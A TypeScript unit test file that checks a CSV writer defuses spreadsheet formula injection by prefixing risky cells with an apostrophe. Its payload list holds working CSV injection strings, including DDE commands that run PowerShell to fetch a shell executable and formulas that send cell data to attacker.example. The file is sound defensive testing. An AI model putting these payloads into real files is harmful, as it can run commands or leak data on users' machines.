import { describe, expect, it } from 'vitest';
import { readCsv } from '../../../../shared/ingest/tables/csv/readCsv';
import { writeCsv } from '../../../../shared/ingest/tables/csv/writeCsv';
import type { CellValue } from '../../../../shared/domain/tableValues';

const decode = (bytes: Uint8Array) => new TextDecoder('utf-8', { ignoreBOM: true }).decode(bytes);

/**
 * OWASP's CSV injection payloads (https://owasp.org/www-community/attacks/CSV_Injection) and the
 * variants its page warns of: a leading space, line feed, tab or carriage return before the trigger, and
 * the full-width forms some spreadsheets read as the ASCII ones.
 */
const PAYLOADS = [
  "=cmd|' /C calc'!A0",
  "=cmd|' /C notepad'!'A1'",
  "=cmd|'/C powershell IEX(wget attacker_server/shell.exe)'!A0",
  '=HYPERLINK("http://contextis.co.uk?leak="&A1&A2,"Error: please click for further information")',
  "@SUM(1+9)*cmd|' /C calc'!A0",
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "=2+5+cmd|' /C calc'!A0",
  '=IMPORTXML(CONCAT("http://attacker.example/?v=", CONCATENATE(A2:E2)), "//a")',
  '=WEBSERVICE("http://attacker.example/?"&A1)',
  "\t=cmd|' /C calc'!A0",
  "\r=cmd|' /C calc'!A0",
  " =cmd|' /C calc'!A0",
  "   +cmd|' /C calc'!A0",
  "\n-2+3+cmd|' /C calc'!A0",
  " \n @SUM(1+9)*cmd|' /C calc'!A0",
  "＝cmd|' /C calc'!A0",
  "＋cmd|' /C calc'!A0",
  "－2+3+cmd|' /C calc'!A0",
  "＠SUM(1+9)*cmd|' /C calc'!A0",
  " ＝HYPERLINK(\"http://attacker.example\")",
  "\u0000=cmd|' /C calc'!A0",
];

const HARMLESS = ['Åre kommun', 'Summa = 5', 'a-b', '2+2', 'user@example.se', ' text med mellanslag', '\nrad två', ''];

describe('writeCsv against CSV injection', () => {
  it.each(PAYLOADS.map((payload) => [JSON.stringify(payload), payload]))('writes %s behind an apostrophe', (_shown, payload) => {
    const line = decode(writeCsv(['Kommentar'], [[payload]], { delimiter: ';' })).split('\r\n').slice(1, -1).join('\r\n');
    expect(line.startsWith(`'`) || line.startsWith(`"'`)).toBe(true);
  });

  it.each(HARMLESS.map((text) => [JSON.stringify(text), text]))('writes %s as it is', (_shown, text) => {
    const line = decode(writeCsv(['Kommentar'], [[text]], { delimiter: ';' })).split('\r\n').slice(1, -1).join('\r\n');
    expect(line.replace(/^"|"$/g, '')).toBe(text);
  });

  it('writes every payload as a cell that starts with an apostrophe inside its quotes, in both notations', () => {
    for (const delimiter of [';', ','] as const) {
      // A NUL makes a file binary to our reader, so that payload is checked by defuseFormula above.
      const payloads = PAYLOADS.filter((payload) => !payload.includes('\u0000'));
      const bytes = writeCsv(['Kommentar'], payloads.map((payload) => [payload]), { delimiter });
      const table = readCsv(bytes, { fileName: 'export.csv', hasHeader: true, skipLines: 0, delimiter });
      // Read back, each cell is the payload behind its apostrophe: text, never a formula.
      expect(table.rows.map((row) => row[0])).toEqual(payloads.map((payload) => `'${payload}`));
    }
  });

  it('writes real numbers as numbers, negative ones too, and reads them back as numbers', () => {
    const rows: CellValue[][] = [
      ['Umeå', -5, -0.25],
      ['Lund', 3, 1250000.5],
      ['=1+1', -1e-7, 0],
    ];
    for (const delimiter of [';', ','] as const) {
      const bytes = writeCsv(['Kommun', 'Förändring', 'Andel'], rows, { delimiter });
      const lines = decode(bytes).split('\r\n');
      expect(lines[1]).toBe(delimiter === ';' ? 'Umeå;-5;-0,25' : 'Umeå,-5,-0.25');
      const table = readCsv(bytes, { fileName: 'export.csv' });
      expect(table.rows.map((row) => row[1])).toEqual([-5, 3, -1e-7]);
      expect(table.rows.map((row) => row[2])).toEqual([-0.25, 1250000.5, 0]);
      expect(table.rows[2]?.[0]).toBe("'=1+1");
    }
  });

  it('defuses text that only looks like a negative number, since a spreadsheet would read it as one', () => {
    expect(decode(writeCsv(['a'], [['-5']], { delimiter: ';' }))).toBe("\ufeffa\r\n'-5\r\n");
  });
});
